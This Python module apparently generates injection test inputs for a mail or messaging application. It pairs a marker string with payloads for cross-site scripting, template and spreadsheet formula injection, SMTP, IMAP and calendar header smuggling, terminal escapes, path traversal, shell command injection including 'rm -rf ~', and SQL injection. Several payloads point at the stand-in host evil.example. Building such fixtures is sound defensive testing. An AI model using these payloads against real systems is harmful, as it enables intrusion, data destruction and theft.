"""What somebody might write to break out of where their words are shown."""

from itertools import cycle, islice, product

MARK = "zq7x"
"""Stands in every payload, to find it again."""
SEEDS = (
    "<script>{m}()</script>",
    "<img src=x onerror={m}()>",
    '"><svg onload={m}()>',
    "'><a href=javascript:{m}()>x</a>",
    "<a href='https://evil.example/{m}'>Approve</a>",
    "<iframe src=//evil.example/{m}></iframe>",
    "<base href=https://evil.example/{m}/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{m}>",
    "<form action=https://evil.example/{m}><input name=a></form>",
    "<style>@import '//evil.example/{m}'</style>",
    "</title></head><body onload={m}()>",
    "<!--{m}--><![CDATA[{m}]]>",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "<table background=//evil.example/{m}>",
    "{{{{ 191 * 7 }}}} {m}",
    "{{% for x in range(9) %}}{m}{{% endfor %}}",
    "{{{{ ''.__class__.__mro__ }}}} {m}",
    "{{{{ config }}}} ${{{{ {m} }}}} #{{{m}}}",
    "%(name)s %s %n {m} {{0}} {{name}}",
    "=cmd|' /C calc'!A0 {m}",
    "+{m}+1",
    "-2+3+{m}",
    "@SUM(1+9)*{m}",
    '\t=HYPERLINK("https://evil.example/{m}")',
    "＝1+1 {m}",
    "{m}\r\nBcc: eve@evil.example",
    "{m}\nSubject: changed",
    "{m}\r\n\r\n<b>a body of its own</b>",
    "{m}\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<lee@acme.example>\r\nDATA",
    "{m}\n.\nRSET",
    '{m}" NIL) (FLAGS (\\Deleted)) A001 EXPUNGE',
    "{m}\r\nA002 DELETE INBOX",
    "{m} {{310}}\r\nA003 LOGOUT",
    "{m}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:second",
    "{m};X-EVIL=1:mailto:eve@evil.example",
    "{m}\\nATTENDEE:mailto:eve@evil.example",
    "{m}\x1b[2J\x1b]0;title\x07\x1b[31m",
    "{m}\x9b31m\x90q\x9c\x85",
    "{m}\x00\x08\x7f\x0b\x0c",
    "{m}\u202egnp.exe\u202c",
    "{m}\u2066\u2067\u2069\u202a\u202b\u202d",
    "{m}\u2028\u2029new line",
    "../../../../etc/passwd {m}",
    "..\\..\\{m}.exe",
    "file:///etc/{m}",
    "{m}\nERROR mailflow: forged line",
    "$(touch /tmp/{m})`id`;|& rm -rf ~",
    "' OR 1=1 --{m}",
    "'); DROP TABLE message;-- {m}",
    "{m}=?utf-8?q?=0D=0ABcc:_eve=40evil.example?=",
    "{m}?subject=x&body=APPROVE%203&bcc=eve@evil.example",
    "mailto:{m}@evil.example?body=PAID%203",
)
DRESSES = ("{0}", "{0} {0}", "hello {0}", "{0} und so weiter", "({0})", "“{0}”", "{0}.", "a{0}b")


def payloads(count: int) -> list[str]:
    """That many, each another one as long as there are seeds and dresses for it."""
    dressed = (dress.format(seed.format(m=MARK)) for dress, seed in product(DRESSES, SEEDS))
    return list(islice(cycle(dressed), count))
